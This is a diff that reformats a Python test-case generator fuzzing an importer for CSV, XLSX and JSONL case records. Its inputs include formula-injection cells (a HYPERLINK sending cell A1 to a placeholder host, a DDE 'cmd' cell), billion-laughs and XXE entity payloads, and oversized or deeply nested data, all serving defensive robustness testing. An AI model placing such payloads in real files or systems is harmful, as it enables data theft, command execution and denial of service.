@@ -31,7 +31,7 @@ Rows = list[list[str]]
 
 MARKER_VALUES = markers.ALL_VALUES
 HOSTILE_CELLS = (
-    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
+    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
     "+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1,2)",
@@ -146,11 +146,7 @@ def header_only(rows: Rows, rng: random.Random) -> Rows:
 
 def markers_everywhere(rows: Rows, rng: random.Random) -> Rows:
     """Every cell of a few rows (or of all) holds a marker: code, date and ID columns too."""
-    picked = (
-        list(_body(rows))
-        if rng.random() < 0.3
-        else rng.sample(list(_body(rows)), min(2, len(rows) - 1))
-    )
+    picked = list(_body(rows)) if rng.random() < 0.3 else rng.sample(list(_body(rows)), min(2, len(rows) - 1))
     for i in picked:
         rows[i] = [rng.choice(MARKER_VALUES) for _ in rows[i]]
     return rows
@@ -319,7 +315,6 @@ ENCODINGS: dict[str, Callable[[bytes], bytes]] = {
     "odd-utf16": lambda d: codecs.BOM_UTF16_LE + _text(d).encode("utf-16-le")[:-1],
 }
 
-
 def _ignoring_rng(function: Callable[[bytes], bytes]) -> Callable[[bytes, random.Random], bytes]:
     def mutate(data: bytes, rng: random.Random) -> bytes:
         return function(data)
@@ -347,12 +342,7 @@ Parts = dict[str, bytes]
 
 def mismatched_tag(parts: Parts, rng: random.Random) -> Parts:
     sheet = parts[xlsx.SHEET].decode("utf-8", "replace")
-    for old, new in (
-        ("</c>", "</x>"),
-        ("</row>", "</rows>"),
-        ("</t>", "</c>"),
-        ("<sheetData>", "<sheetData><row>"),
-    ):
+    for old, new in (("</c>", "</x>"), ("</row>", "</rows>"), ("</t>", "</c>"), ("<sheetData>", "<sheetData><row>")):
         if old in sheet and rng.random() < 0.6:
             sheet = sheet.replace(old, new, 1)
             break
@@ -518,19 +508,13 @@ def json_markers_everywhere(documents: list[Json], rng: random.Random) -> list[J
 
 
 def json_not_objects(documents: list[Json], rng: random.Random) -> list[Json]:
-    documents.insert(
-        rng.randint(0, len(documents)), rng.choice(([], 1, "Zyxmarta", None, [{}], True))
-    )
+    documents.insert(rng.randint(0, len(documents)), rng.choice(([], 1, "Zyxmarta", None, [{}], True)))
     return documents
 
 
 def json_many_participants(documents: list[Json], rng: random.Random) -> list[Json]:
     document = rng.choice(documents)
-    if (
-        isinstance(document, dict)
-        and isinstance(document.get("participants"), list)
-        and document["participants"]
-    ):
+    if isinstance(document, dict) and isinstance(document.get("participants"), list) and document["participants"]:
         document["participants"] = document["participants"] * rng.choice((50, 2000))
     return documents
 
@@ -693,9 +677,7 @@ def _argv(fmt: str, path: Path, rng: random.Random, seeds: Seeds, folder: Path) 
     return Invocation(tuple(argv), outputs=outputs, searched=outputs)
 
 
-def _special_cases(
-    fmt: str, source: _Source, seeds: Seeds
-) -> list[tuple[str, Callable[[Path], Path | tuple[Path, list[str]]], float]]:
+def _special_cases(fmt: str, source: _Source, seeds: Seeds) -> list[tuple[str, Callable[[Path], Path | tuple[Path, list[str]]], float]]:
     """(mutation, writer of the input, timeout) run once per format."""
     header = ["tip_CaseId", "prs_Gender", "vic_TraffickingStatus"]
     ext = ".jsonl" if fmt == "jsonl" else (".xlsx" if fmt == "htcds-xlsx" else ".csv")
@@ -734,11 +716,7 @@ def _special_cases(
         elif ext == ".jsonl":
             path.write_bytes(b"{}\n" * 1_000_000)
         else:
-            names = (
-                header
-                if fmt == "htcds-csv"
-                else ["meta/instanceID", "prs_Gender", "vic_TraffickingStatus"]
-            )
+            names = header if fmt == "htcds-csv" else ["meta/instanceID", "prs_Gender", "vic_TraffickingStatus"]
             path.write_bytes((",".join(names) + "\n").encode() + b"c,,\n" * 1_000_000)
         return path
 
@@ -770,16 +748,12 @@ def _special_cases(
 
         def deep_object(folder: Path) -> Path:
             path = folder / "input.jsonl"
-            path.write_bytes(
-                b'{"external_id": ' + b'{"a": ' * 100_000 + b"1" + b"}" * 100_001 + b"\n"
-            )
+            path.write_bytes(b'{"external_id": ' + b'{"a": ' * 100_000 + b"1" + b"}" * 100_001 + b"\n")
             return path
 
         def huge_number(folder: Path) -> Path:
             path = folder / "input.jsonl"
-            path.write_bytes(
-                b'{"external_id": "c", "organisation": "x", "opened_on": ' + b"9" * 5000 + b"}\n"
-            )
+            path.write_bytes(b'{"external_id": "c", "organisation": "x", "opened_on": ' + b"9" * 5000 + b"}\n")
             return path
 
         specials += [
@@ -804,9 +778,7 @@ def _special_cases(
             parts = xlsx.parts_for([header, ["&lol9;", "Feminine", "Victim"]], raw=True)
             sheet = parts[xlsx.SHEET].decode()
             first_line_end = sheet.index("\n") + 1
-            parts[xlsx.SHEET] = (
-                sheet[:first_line_end] + xlsx.entity_payload("laughs") + sheet[first_line_end:]
-            ).encode()
+            parts[xlsx.SHEET] = (sheet[:first_line_end] + xlsx.entity_payload("laughs") + sheet[first_line_end:]).encode()
             xlsx.write_parts(path, parts)
             return path
 
@@ -816,11 +788,7 @@ def _special_cases(
             for part in (xlsx.SHEET, xlsx.SST):
                 text = parts[part].decode()
                 first_line_end = text.index("\n") + 1
-                parts[part] = (
-                    text[:first_line_end]
-                    + xlsx.entity_payload("xxe", seeds.xxe_secret)
-                    + text[first_line_end:]
-                ).encode()
+                parts[part] = (text[:first_line_end] + xlsx.entity_payload("xxe", seeds.xxe_secret) + text[first_line_end:]).encode()
             xlsx.write_parts(path, parts)
             return path
 
@@ -839,9 +807,7 @@ def _special_cases(
     return specials
 
 
-def import_cases(
-    fmt: str, seeds: Seeds, count: int, seed: int, source: _Source | None = None
-) -> Iterator[Case]:
+def import_cases(fmt: str, seeds: Seeds, count: int, seed: int, source: _Source | None = None) -> Iterator[Case]:
     """``count`` cases for one import format; the special ones first when count allows."""
     source = source or _Source(seeds)
     specials = _special_cases(fmt, source, seeds)
@@ -850,14 +816,10 @@ def import_cases(
         # Small samples (the test module) keep the cheap specials and a couple of bombs.
         cheap = [s for s in specials if s[2] <= 15]
         costly = [s for s in specials if s[2] > 15]
-        specials = chooser.sample(cheap, min(len(cheap), count // 4)) + chooser.sample(
-            costly, min(len(costly), count // 20)
-        )
+        specials = chooser.sample(cheap, min(len(cheap), count // 4)) + chooser.sample(costly, min(len(costly), count // 20))
     for name, writer, timeout in specials:
 
-        def build_special(
-            folder: Path, writer: Callable[[Path], Any] = writer, name: str = name
-        ) -> Invocation:
+        def build_special(folder: Path, writer: Callable[[Path], Any] = writer, name: str = name) -> Invocation:
             made = writer(folder)
             if isinstance(made, tuple):
                 _, argv = made
